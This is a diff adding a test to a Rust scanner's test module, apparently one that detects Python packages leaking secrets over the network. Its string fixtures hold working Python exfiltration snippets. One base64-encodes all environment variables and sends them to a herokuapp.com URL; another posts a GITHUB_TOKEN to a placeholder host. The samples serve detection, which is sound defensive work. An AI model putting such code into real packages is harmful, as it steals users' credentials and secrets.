@@ -141,6 +141,13 @@ mod tests {
     use crate::rules::testing::{findings, max_severity};
 
     #[test]
+    fn the_environment_joined_in_a_loop_and_encoded_still_flows() {
+        // The ctx hijack: every variable's value, base64-encoded into a free app host's URL.
+        let code = "import base64, requests\nfrom os import environ\ndef send():\n    s = ''\n    for _, value in environ.items():\n        s += value + ' '\n    m = base64.b64encode(s.encode('ascii')).decode('ascii')\n    requests.get('https://x-y.herokuapp.com/h/' + m)\n";
+        assert!(max_severity("p/pkg/m.py", code, "WH200") >= 0.6);
+    }
+
+    #[test]
     fn secret_to_network_is_traced() {
         let code = "import os, requests\ntoken = os.environ['GITHUB_TOKEN']\ndata = {'t': token}\nrequests.post('https://example.invalid', json=data)\n";
         assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.85);
